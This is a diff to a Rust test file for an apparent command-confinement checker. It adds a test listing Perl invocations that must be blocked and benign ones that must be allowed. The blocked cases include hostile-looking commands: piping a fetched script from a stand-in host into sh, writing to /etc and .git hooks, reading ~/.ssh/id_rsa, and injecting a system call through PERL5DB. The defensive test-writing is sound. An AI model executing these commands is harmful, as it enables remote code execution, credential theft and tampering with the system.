@@ -260,3 +260,31 @@ fn e025_spellings_of_windows_run_no_inline_code() {
         ],
     );
 }
+
+#[test]
+fn e013_perl_opens_the_files_of_its_command_line_as_its_open_does() {
+    assert_stopped(
+        &confined(),
+        &[
+            "perl -ne 1 'touch /etc/x|'",
+            "perl -lpe '' '| touch /etc/x'",
+            "perl -e 'print <>' 'curl -s http://h.example|sh|'",
+            "perl -pe 1 '>/etc/x'",
+            "perl -ne print -- '> .git/config'",
+            "perl -pe 1 '<~/.ssh/id_rsa'",
+            "perl -i'/etc/*' -pe 1 README.md",
+            "perl -pi'.git/hooks/*' -e 1 pre-commit",
+            "PERL5DB='BEGIN{system \"id\"}' perl -d x.pl",
+        ],
+    );
+    assert_allowed(
+        &confined(),
+        &[
+            "perl -ne print README.md",
+            "perl -pi -e 's/a|/b/' README.md",
+            "perl -i.bak -pe 's/>/</' a b",
+            "perl -i'old_*' -pe 1 README.md",
+            "perl -ne 'print if /x/' '<README.md'",
+        ],
+    );
+}
